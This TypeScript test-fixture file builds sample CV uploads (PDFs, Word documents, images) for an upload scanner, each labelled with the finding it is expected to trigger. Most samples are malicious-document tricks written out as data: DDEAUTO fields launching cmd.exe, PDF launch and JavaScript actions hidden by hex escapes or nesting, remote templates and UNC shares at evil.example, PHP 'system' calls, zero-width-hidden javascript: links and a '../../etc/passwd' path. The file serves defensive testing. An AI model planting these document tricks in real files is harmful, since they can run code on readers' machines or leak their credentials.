// biome-ignore-all format: one sample a line
/**
 * Files that applicants and attackers send, each with what is found in it. The honest ones beside this file were made by the programs
 * in their names; everything else is made here.
 */
import { readdirSync, readFileSync } from "node:fs";
import * as make from "#lib/submissions/cv/samples/files";
import type { CvFinding } from "#lib/submissions/model/cv-findings";

export type Sample = {
	/** Completes the sentence 'An applicant sends …'. */
	name: string;
	content: () => Buffer;
	/** One of the findings, or that there is none, or that the file is refused. */
	expected: "clean" | CvFinding["kind"] | "wrong type" | "empty";
};
type Expected = Sample["expected"];

/** Samples that differ in one text: of each row its verdict, what it shows, and the text. */
const each = <T>(kind: string, from: (text: T) => Buffer, rows: [Expected, string, T][]): Sample[] =>
	rows.map(([expected, what, text]) => ({ name: `${kind} ${what}`, expected, content: () => from(text) }));

const page = (catalog = "", entries = "", ...more: string[]) =>
	make.pdfOf([`<</Type/Catalog/Pages 2 0 R${catalog}>>`, "<</Type/Pages/Count 1/Kids[3 0 R]>>", `<</Type/Page/Parent 2 0 R${entries}>>`, ...more]);
const link = (action: string) => page("", `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`);
const object = (text: string) => page("", "", text);
const stream = (...given: Parameters<typeof make.pdfStream>) => object(make.pdfStream(...given));
const packed = (...given: Parameters<typeof make.objectStream>) => object(make.objectStream(...given));
const beside = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string, "latin1")));
const SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
const NOTE = `<</Subtype/FreeText/Rect[0 0 9 9]/Contents(Available)/RC (<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p dir="ltr">Available</p></body>)>>`;
/** The object with script comes first and its replacement after it; each reader's table decides which counts. */
const replaced = () => beside(`%PDF-1.7\n4 0 obj${SCRIPT}endobj\n`, page("/OpenAction 4 0 R", "", "<</S/GoTo/D[3 0 R/Fit]>>").subarray(9));

const PDFS: Sample[] = [
	...each("a PDF", (content: () => Buffer) => content(), [
		["clean", "of one page", () => page()],
		["clean", "with an object stream", () => packed("<</Title(CV)>>")],
		["clean", "with a text of a script", () => stream("BT (/S/JavaScript /Launch) Tj ET")],
		["clean", "whose page says so unpacked", () => stream("BT (HTML/CSS/JavaScript) Tj ET", "", "")],
		["clean", "that was saved twice", () => beside(page(), page().subarray(15))],
		["clean", "typed on a scan, packed", () => packed(NOTE)],
		["clean", "of Android, with a type twice", () => object("<</Type /ExtGState\n/Type /ExtGState\n/CA 1>>")],
		["clean", "of Google Docs, with a heading twice", () => page("/Dests 4 0 R", "", "<</h.a [3 0 R /XYZ 43 7 0]\n/h.a [3 0 R /XYZ 43 6 0]>>")],
		["clean", "of Soda PDF, with an empty object", () => object("")],
		["uninspected", "with a mark before it", () => beside("\xef\xbb\xbf", page())],
		["appended", "that begins as a program", () => beside("MZ\x90\0", page())],
		["script", "in an earlier revision of which is script", replaced],
		["script", "with script in an object stream", () => packed(SCRIPT)],
		["script", "with script in an object stream within another", () => packed(make.objectStream(SCRIPT))],
		["script", "with script within another stream", () => stream(`9 0 obj${SCRIPT}endobj`, "", "")],
		["script", "with a form that has script", () => page("/AcroForm<</XFA[(template) 4 0 R]>>", "", make.pdfStream("<x><script>1</script></x>"))],
		["clean", "with a form that has none", () => page("/AcroForm<</XFA[(template) 4 0 R]>>", "", make.pdfStream("<x><field/></x>"))],
		["script", "that is cut within script", () => object("<</S/JavaScript/JS(a")],
		["attachment", "with a file pinned to a page", () => object("<</Subtype/FileAttachment>>")],
		["script", "with a program for printers", () => stream("(a) run", "/Type/XObject/Subtype/PS")],
		["attachment", "with a file in it", () => stream("MZ", "/Type/EmbeddedFile")],
		["remote", "whose picture lies elsewhere", () => stream("", "/F(https://example.com/a)")],
		["remote", "that shows a page of another file", () => stream("", "/Subtype/Form/Ref<</F(\\\\\\\\evil\\\\a.pdf)>>")],
		["uninspected", "packed in a way that few readers know", () => packed("<<>>", "/Type/ObjStm/DP<</Predictor 2>>")],
		["uninspected", "whose object stream cannot be unpacked", () => packed("<<>>", "", "/Filter/LZWDecode")],
		["uninspected", "that is encrypted", () => make.pdfOf(["<</Type/Catalog>>"], "/Encrypt<</Filter/Standard/V 4>>")],
		["markup", "with a web page in its first line", () => make.pdf(600, "<html><script>1</script>")],
		["markup", "with PHP in a comment", () => make.pdf(600, "%<?php system(1); ?>")],
		["archive", "with an archive at its end", () => beside(make.pdf(), make.zip([["a.exe", "MZ"]]))],
		["archive", "with a RAR archive in a stream", () => stream("Rar!\x1a\x07\x01\0", "", "")],
		["appended", "with a program behind it", () => beside(page(), `MZ${"\x90".repeat(99)}`)],
		["uninspected", "that ends half way", () => stream("x".repeat(2_000), "", "").subarray(0, 900)],
		["uninspected", "nested a hundred thousand deep", () => make.pdf(600, `9 0 obj${"[".repeat(100_000)}endobj`)],
		["uninspected", "that unpacks to 90 MB", () => stream("0".repeat(90_000_000), "/Type/ObjStm/N 1/First 4")],
		["uninspected", "that takes minutes to read", () => make.pdf(600, "9 0 obj(".repeat(400_000))],
		["uninspected", "with fifteen million numbers in 31 KB", () => packed(`[${"0 ".repeat(15_000_000)}]`)],
	]),
	...each("a PDF whose catalog has", page, [
		["clean", "a form without actions", "/AcroForm<</Fields[<</FT/Tx/T(name)>>]>>"],
		["script", "script in hex", "/OpenAction<</S/#4aavaScript/#4a#53(a)>>"],
		["program", "a program to open", "/OpenAction<</S/L#61unch/F(cmd.exe)>>"],
		["action", "a web page to open when it is closed", "/AA<</WC<</S/URI/URI(https://example.com)>>>>"],
		["action", "a web page to open behind a turn to a page", "/OpenAction<</S/GoTo/Next<</S/URI/URI(https://a.b)>>>>"],
		["attachment", "a folder of files", "/Collection<</View/D>>"],
	]),
	...each("a PDF with a link", link, [
		["clean", "to a web page", "/S/URI/URI(https://example.com/yaa)"],
		["clean", "to an address without scheme", "/S/URI/URI(www.example.com)"],
		["link", "to an email address that became a file", "/S/URI/URI(file:///C:/Users/Ama/Desktop/ama@example.com)"],
		["link", "to data", "/S/URI/URI(data:text/html,a)"],
		["link", "that is script behind an invisible letter", "/S/URI/URI<FEFF200B006A006100760061007300630072006900700074003A0061>"],
		["link", "to a share in percents", "/S/URI/URI(%5C%5Cevil.example%5Ca)"],
		["script", "and script after it", `/S/GoTo/D[3 0 R/Fit]/Next${SCRIPT}`],
		["form", "that sends its form", "/S/SubmitForm/F(https://example.com)"],
		["remote", "to another file", "/S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)"],
	]),
];

const PROGRAM = "MZ\x90\0\x03";
const carrying = (part: [string, (string | Buffer)?]) => make.docx([part]);
const related = (relation: [string, string, boolean?]) => make.docx([], { relations: [relation] });
const body = (text: string) => make.docx([], { body: text });
const run = (text: string) => `<w:instrText>${text}</w:instrText>`;
const fieldOf = (inside: string) => `<w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="end"/>`;
const field = (text: string) => body(fieldOf(run(text)));
/** A document whose table of contents says this of its first part, so many bytes behind the beginning. */
const patched = (at: number, bytes: string) => {
	const content = make.docx();
	content.write(bytes, content.indexOf("PK\x01\x02") + at, "latin1");
	return content;
};
const START = "DDEAUTO c:\\windows\\cmd.exe";

const WORDS: Sample[] = [
	...each("a Word document", (content: () => Buffer) => content(), [
		["clean", "of one paragraph", () => make.docx()],
		["clean", "with figures of a chart", () => make.docx([["word/embeddings/a.xlsx", make.zip([["a"]])], ["word/charts/_rels/chart1.xml.rels", '<Relationships><Relationship Type="x/package" Target="../embeddings/a.xlsx"/></Relationships>']])],
		["clean", "whose picture declares Word's prefix again", () => body('<a:ext xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')],
		["remote", "whose drawing comes from elsewhere", () => body('<w:pict><v:shape><v:imagedata src="http://a.b/c"/></v:shape></w:pict>')],
		["macros", "with macros, called .docx", () => make.docx([], { mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" })],
		["uninspected", "with an encrypted part", () => patched(8, "\x01")],
		["uninspected", "with a password", () => make.cfb({ EncryptedPackage: Buffer.alloc(900), EncryptionInfo: Buffer.alloc(90) })],
		["uninspected", "that lies about its size", () => patched(24, "\xff\xff\xff\x7f")],
		["uninspected", "with a link of the file system", () => patched(38, "\0\0\xff\xa1")],
		["uninspected", "that ends half way", () => make.docx().subarray(0, 900)],
		["clean", "of five thousand parts", () => make.docx(Array.from({ length: 5_000 }, (_, index): [string] => [`word/${index}`]))],
		["field", "with a field behind a page of spaces", () => make.docx([["word/a.xml", `${" ".repeat(2_000)}<w:a xmlns:w="${make.WORD}"><w:fldSimple w:instr="LINK a"/></w:a>`]])],
		["uninspected", "that unpacks to 5 MB of spaces", () => make.docx([["word/a.xml", " ".repeat(5_000_000)]])],
		["uninspected", "that unpacks to 100 MB", () => make.docx([["word/a.xml", `<a>${" ".repeat(1e8)}</a>`]])],
		["uninspected", "of 10 KB with ten million letters to replace", () => make.docx([["word/a.xml", `<w:fldSimple w:instr="HYPERLINK ${"\\".repeat(1e7)}"/>`]])],
		["field", "whose root has no prefix and hides a field", () => make.docx([["word/a.xml", `<p xmlns="${make.WORD}" xmlns:w="${make.WORD}"><fldChar w:fldCharType="begin"/><instrText xmlns="urn:x">PAGE </instrText><instrText>LINK a</instrText></p>`]])],
	]),
	...each("a Word document with", carrying, [
		["clean", "a part of Microsoft's Editor", ["word/intelligence2.xml", "<int2:intelligence/>"]],
		["clean", "a drawing in lines", ["word/media/a.svg", '<svg><a l:href="https://a.b"><use l:href="#c"/></a><image href="data:image/png;base64,AA"/></svg>']],
		["macros", "macros under another name", ["word/media/image1.png", make.cfb({ "\u0001Ole10Native": Buffer.from("calc.exe") })]],
		["attachment", "a spreadsheet in it", ["word/embeddings/a.bin", make.zip([["a"]])]],
		["remote", "an address in UTF-16", ["word/a.xml", Buffer.from('\ufeff<v:imagedata src="http://a.b/c"/>', "utf16le")]],
		["attachment", "a program called as figures of a chart are", ["word/embeddings/a.xlsx", Buffer.from(PROGRAM, "latin1")]],
		["attachment", "a program as a picture", ["word/media/a.png", Buffer.from(PROGRAM, "latin1")]],
		...["a.scr", "a.lnk", "a.hta", "a.exe", "a.js"].map((name): [Expected, string, [string]] => ["attachment", name, [`word/${name}`]]),
		["uninspected", "entities of its own", ["word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>']],
		["uninspected", "../ in a name", ["../../etc/passwd"]],
		["uninspected", "a part twice", ["word/Document.xml"]],
	]),
	...each("a Word document related to", related, [
		["clean", "something of another vendor", ["teleport", "a.xml"]],
		["macros", "a control", ["control", "activeX/activeX1.xml"]],
		["remote", "a picture elsewhere", ["image", "https://evil.example/a.png", true]],
		["remote", "a picture of its own that lies elsewhere", ["image", "http://a.b/c.png"]],
		["attachment", "an object", ["oleObject", "embeddings/a.bin"]],
		["attachment", "a web page in it", ["aFChunk", "a.htm"]],
		["script", "an add-in", ["webextensiontaskpanes", "webextensions/taskpanes.xml"]],
		["link", "a file", ["hyperlink", "file:///C:/Windows/a.exe", true]],
		["link", "script behind an invisible letter", ["hyperlink", "\u200bjavascript:alert(1)", true]],
	]),
	...each("a Word document made from the template", (path: string) => related(["attachedTemplate", path, true]), [
		...["C:\\Users\\Yaa\\CV.dotx", "file:///C:\\CV.dotx", "file://localhost/Users/ama/CV.dotx", "Macintosh%20HD:Users:ama:CV.dotx", "Normal.dotm"].map((path): [Expected, string, string] => ["clean", path, path]),
		...["https://evil.example/a.dotm", "\\\\evil.example\\a.dotm", "file://evil.example/a.dotm", "file:////evil.example/a.dotm", "%5C%5Cevil%5Ca.dotm"].map((path): [Expected, string, string] => ["remote", path, path]),
	]),
	...each("a Word document with the field", field, [
		...[" PAGE \\* MERGEFORMAT ", ' IF "a" = "b" "c" ', " ADDIN ZOTERO_ITEM {} ", " MACROBUTTON  NoMacro [Your name] ", ' HYPERLINK "https://a.com/link?b=c:d" ', ' HYPERLINK \\l "work" \\o "C:" ', " HYPERLINK mailto:yaa@example.com ", ' HYPERLINK "www.example.com:8080/a" ', ' INCLUDEPICTURE "C:\\\\Users\\\\Ama\\\\me.jpg" \\* MERGEFORMATINET '].map((text): [Expected, string, string] => ["clean", text, text]),
		...[START, "MACROBUTTON FileExit Go", " LINK Excel.Sheet.8 a.xls ", "INCLUDEPICTURE &quot;https://a.b&quot;", ` <x:a/>${START}`].map((text): [Expected, string, string] => ["field", text, text]),
		...['\\t "_blank" "file://evil.example/a.exe"', '" file://evil.example/a.exe"', '"//evil.example/a.exe"', '"c:\\\\windows\\\\cmd.exe"', "search-ms:query=a"].map((to): [Expected, string, string] => ["link", `HYPERLINK ${to}`, ` HYPERLINK ${to} `]),
	]),
	...each("a Word document with a field", body, [
		["field", "in two pieces", fieldOf(run(" DD") + run("EAUTO c:\\cmd.exe "))],
		["field", "in an attribute", '<w:fldSimple w:instr="INCLUDETEXT &quot;https://a.b&quot;"/>'],
		["field", "that another field spells", fieldOf(fieldOf(run("QUOTE 68 68 69")))],
		["link", "whose address another field spells", fieldOf(run("HYPERLINK ") + fieldOf(run("DOCPROPERTY a")))],
		["field", "behind a mark of another namespace", fieldOf(`<x:fldChar xmlns:x="urn:x" w:fldCharType="separate"/>${run("LINK a")}`)],
		["field", "behind a mark's attribute of another namespace", fieldOf(`<w:fldChar xmlns:x="urn:x" x:fldCharType="separate"/>${run("LINK a")}`)],
		["uninspected", "behind a prefix that nothing explains", fieldOf(`<x:fldChar w:fldCharType="separate"/>${run("LINK a")}`)],
		["field", "in the second of two choices", fieldOf(`<mc:Choice>${run("PAGE ")}</mc:Choice><mc:Fallback>${run(START)}</mc:Fallback>`)],
		["field", "that never ends", `<w:fldChar w:fldCharType="begin"/>${run(START)}`],
		["media", "and a film of the web", '<wp15:webVideoPr xmlns:wp15="a" embeddedHtml="&lt;iframe&gt;"/>'],
	]),
	...each("an old Word file", make.doc, [
		["clean", "of one paragraph", {}],
		["clean", "with links, as LibreOffice writes them", { text: '\x13 HYPERLINK "tel:+233200000000" \x14\u00a0here\x15\x13 HYPERLINK \\l "work" \x01\x14Work\x15 \x13 PAGE \x15' }],
		["macros", "with macros", { streams: { "Macros/VBA/_VBA_PROJECT": Buffer.from("x") } }],
		["attachment", "with an object", { streams: { "ObjectPool/_1/\u0001Ole10Native": Buffer.from("x") } }],
		["attachment", "with a program in it", { streams: { Payload: Buffer.from(PROGRAM, "latin1") } }],
		["remote", "with a template elsewhere in a table of two texts", { table: ["", "https://evil.example/a.dot"] }],
		["remote", "with a table of its own before that of its template", { text: `\xff\xff\x12\0${"\0".repeat(5_000)}`, template: "https://evil.example/a.dot" }],
		["remote", "whose template lies elsewhere", { template: "https://evil.example/a.dot" }],
		["field", "with a field that starts a program", { text: "\x13 DDEAUTO cmd \x14\x15" }],
		["field", "with such a field in Unicode", { text: "\x13 DDE cmd \x15", isWide: true }],
		["link", "with a link to a file behind a window", { text: '\x13 HYPERLINK \\t "a" "file://evil.example/a" \x14here\x15' }],
		["uninspected", "with a password", { flags: 0x0100 }],
		["uninspected", "of Word 95", { magic: 0xa5dc }],
	]),
];

const OTHERS = each("", (content: () => Buffer | string) => Buffer.from(content() as string, "latin1"), [
	["clean", "a photo with its depth behind it", () => beside(make.jpg(), make.jpg())],
	["clean", "a photo of a Samsung phone", () => make.jpg("\0\0\x01\x0aImage_UTC_Data1700000000SEFH\0\0SEFT")],
	["clean", "a photo that moves", () => make.jpg("\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x09mdat\x11")],
	["markup", "a photo with PHP in it", () => make.jpg(undefined, "<?php system(1) ?>")],
	["markup", "a photo with a web page behind it", () => make.jpg("<html><script>1</script>")],
	["archive", "a picture with an archive behind it", () => beside(make.png(), make.zip([["a", "b"]]))],
	["appended", "a picture with a program behind it", () => make.png(PROGRAM)],
	["appended", "a photo with a program before what a Samsung phone adds", () => make.jpg(`${PROGRAM}xSEFH\0\0SEFT`)],
	["uninspected", "a photo that ends half way", () => make.jpg().subarray(0, -4)],
	["uninspected", "an old Word file that ends within its text", () => make.doc({ text: "x".repeat(9_000) }).subarray(0, 6_000)],
	["markup", "an old Word file with a web page behind it", () => beside(make.doc(), "<hta:application><script>1</script>")],
	["wrong type", "an old spreadsheet", () => make.cfb({ Workbook: Buffer.from("x") })],
	["wrong type", "an archive", () => make.zip([["a.txt", "a"]])],
	["wrong type", "a spreadsheet", () => make.zip([["[Content_Types].xml", '<Types><Default ContentType="spreadsheetml.sheet"/></Types>']])],
	["wrong type", "a program", () => "MZ\x90\0 this program"],
	["empty", "nothing", () => ""],
]);

const FOLDER = new URL("./", import.meta.url);
const REAL = readdirSync(FOLDER).filter((name) => !name.endsWith(".ts"));

export const SAMPLES: Sample[] = [
	...[...PDFS, ...WORDS, ...OTHERS].map((sample) => ({ ...sample, name: sample.name.trim() })),
	...REAL.map((name): Sample => ({ name: `a real file: ${name}`, expected: name.includes("encrypted") ? "uninspected" : "clean", content: () => readFileSync(new URL(name, FOLDER)) })),
];
